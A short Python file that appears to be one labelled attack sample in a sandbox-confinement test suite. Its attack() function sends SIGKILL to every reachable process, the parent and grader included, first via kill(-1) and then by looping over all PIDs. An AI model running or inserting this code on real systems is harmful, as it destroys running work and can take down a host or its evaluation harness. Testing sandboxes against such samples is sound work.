"""Kill every process that may be killed."""

import contextlib
import os
import signal

CLASS = "killing or reading the parent"
LEVEL = "confined"  # below, it would take whoever grades along


def attack(name, /, *args, **kwargs):
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    for pid in range(2, 2**15):
        if pid != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
    return None
